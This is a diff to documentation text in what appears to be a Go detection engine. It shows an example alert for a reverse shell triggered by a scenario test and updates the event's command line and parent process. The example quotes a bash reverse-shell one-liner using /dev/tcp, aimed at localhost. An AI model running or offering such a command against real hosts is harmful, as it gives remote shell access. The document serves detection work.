@@ -74,7 +74,9 @@ machine can be gone before the process collector reads its command line (poll mo
 const exampleDoc = `## Example
 
 A reverse shell started on a test machine (` + "`timeout 2 bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'`" + `, from the
-scenario corpus, ` + "`go test -run TestScenarios ./detect/`" + `) reached the engine 2 ms after the exec as this event:
+scenario corpus, ` + "`go test -run TestScenarios ./detect/`" + `, whose test binary is the parent; the trigger's command line
+ends with a comment naming the test's temporary directory, ` + "`$T`" + `) left the detect stage 2 ms after the exec as this
+event:
 
 ` + "```json" + `
 {
@@ -95,12 +97,12 @@ scenario corpus, ` + "`go test -run TestScenarios ./detect/`" + `) reached the e
     "TriggerEventIds": ["d3923938-53e6-4c9b-9817-e3e6722392e4"],
     "TriggerEventNames": ["ProcessCreate"],
     "Executable": "/usr/bin/timeout",
-    "CommandLine": "timeout 2 bash -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
+    "CommandLine": "timeout 2 bash -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1 # $T",
     "UserId": "0",
     "UserName": "root",
     "ProcessId": 16993,
     "ParentProcessId": 16958,
-    "ParentExecutable": "/usr/bin/bash",
+    "ParentExecutable": "/tmp/go-build1667061938/b001/detect.test",
     "RemoteAddress": "127.0.0.1",
     "RemotePort": "9",
     "Count": 1
